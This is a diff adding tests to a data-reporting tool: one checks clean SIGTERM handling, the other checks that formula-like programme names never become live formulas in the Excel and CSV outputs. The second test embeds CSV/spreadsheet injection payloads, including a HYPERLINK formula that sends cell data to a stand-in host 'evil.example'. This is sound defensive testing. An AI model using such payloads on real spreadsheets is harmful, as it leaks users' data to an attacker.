@@ -613,3 +613,59 @@ def test_csv_outputs_of_the_commands_are_formula_safe(tmp_path, capsys):
         for value in row.values():
             assert not value.startswith(outputs.FORMULA_START) or outputs._PLAIN_NUMBER.match(value), value
         float(row["year"])  # numbers stay numbers
+
+
+def test_sigterm_stops_a_run_cleanly(tmp_path, raws, snapshots):
+    """``kill PID`` (SIGTERM) is handled like Ctrl-C: the earlier output stays, and the run
+    removes its temporary folder and lock itself (no need to wait for the next start)."""
+    from analysis.synth import generate_respondents, write_respondents
+
+    raw = tmp_path / "raw"
+    shutil.copytree(raws["B"], raw)
+    write_respondents(generate_respondents(300_000, 40, 200, 2, seed=5), raw / "respondents.parquet")
+    out = tmp_path / "validated"
+    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
+    env = dict(os.environ, PYTHONIOENCODING="utf-8")
+    proc = subprocess.Popen([python(), "-m", "analysis", "ingest", "--data", str(raw), "--out", str(out)],
+                            cwd=paths.ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
+    deadline = time.monotonic() + 120
+    while not (tmp_path / ".validated.kvalitet-lock").exists() and time.monotonic() < deadline:
+        time.sleep(0.05)
+    proc.send_signal(signal.SIGTERM)
+    err = proc.communicate(timeout=120)[1]
+    assert proc.returncode == 130, err
+    assert "interrupted; nothing was replaced" in err and "Traceback" not in err
+    assert tree_snapshot(out) == snapshots["A"]
+    assert leftovers(tmp_path, "validated") == []
+
+
+@pytest.mark.slow
+def test_a_report_from_hostile_names_has_no_formula_anywhere(tmp_path):
+    """A programme named like a formula goes through the whole report: the workbook has no
+    formula cell and no CSV cell starts a formula."""
+    import csv
+
+    import openpyxl
+
+    raw = tmp_path / "raw"
+    shutil.copytree(paths.RAW, raw)
+    table = raw / SEED
+    table.chmod(0o644)
+    evil = '=HYPERLINK("http://evil.example/?d="&B2,"Kybernetikk")'
+    text = table.read_text(encoding="utf-8").replace("Kybernetikk;", '"' + evil.replace('"', '""') + '";')
+    table.write_text(text.replace("Datateknologi;", "@SUM(1+1)*cmd;"), encoding="utf-8")
+    out = tmp_path / "report"
+    proc = kvalitet("report", "--no-static", "--data", raw, "--out", out)
+    assert proc.returncode == 0, proc.stderr
+    book = openpyxl.load_workbook(out / "kvalitetsmelding.xlsx")
+    values = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in values if c.data_type == "f"]
+    assert evil in {c.value for c in values}, "the name is in the workbook, as text"
+    seen = False
+    for path in (out / "tables").glob("*.csv"):
+        with path.open(encoding="utf-8-sig", newline="") as fh:
+            for row in csv.reader(fh):
+                for cell in row:
+                    assert not cell.startswith(outputs.FORMULA_START) or outputs._PLAIN_NUMBER.match(cell), (path, cell)
+                    seen = seen or cell == "'" + evil
+    assert seen, "the name is in the CSV tables, prefixed"
